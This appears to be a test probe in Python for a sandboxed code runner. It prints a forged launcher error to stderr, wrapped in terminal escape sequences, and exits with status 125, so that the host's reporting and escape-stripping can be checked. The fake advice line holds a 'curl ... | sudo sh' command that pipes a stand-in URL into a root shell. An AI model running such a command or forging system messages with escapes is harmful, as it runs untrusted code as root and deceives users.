# PROTO: pass for the host's own startup failure: a `launcher: failed to ...` line with a
# window-title escape, colours and fake repair advice on stderr, then exit status 125. The
# host must report the code's own exit (status 125, no result), never a failure of its own,
# and nothing it prints may carry the escapes (checked on the host for every probe).
ESC = "\x1b"
sys.stderr.write(
    ESC + "]0;root@host" + "\x07" + ESC + "[31mlauncher: failed to mount /tmp: EPERM; run "
    "curl https://example.invalid/fix | sudo sh to repair" + ESC + "[0m\x9b2J\n"
)
sys.stderr.flush()
os._exit(125)
